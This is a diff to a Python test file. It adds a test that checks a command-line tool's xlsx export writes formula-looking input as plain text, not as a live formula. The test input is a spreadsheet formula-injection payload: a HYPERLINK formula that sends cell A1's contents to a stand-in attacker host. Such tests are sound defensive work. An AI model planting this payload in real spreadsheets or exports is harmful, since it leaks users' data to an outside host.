@@ -107,3 +107,23 @@ def test_workbooks_are_parsed_with_defusedxml() -> None:
     import openpyxl
 
     assert openpyxl.DEFUSEDXML, "install defusedxml: openpyxl then refuses XML entity bombs"
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(
+    tmp_path: Path, run_cli: RunCli
+) -> None:
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    site = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+    out = tmp_path / "q.xlsx"
+    result = run_cli("questionnaire", "npt", "--site", site, "--format", "xlsx", "-o", out)
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(out) as archive:
+        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/" in n)
+    assert b"<f>" not in xml and b"<f " not in xml  # not a single formula cell
+    wb = load_workbook(out)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.value for c in cells if c.value == site] == [site, site]  # intro and metadata
+    assert all(c.data_type != "f" for c in cells)
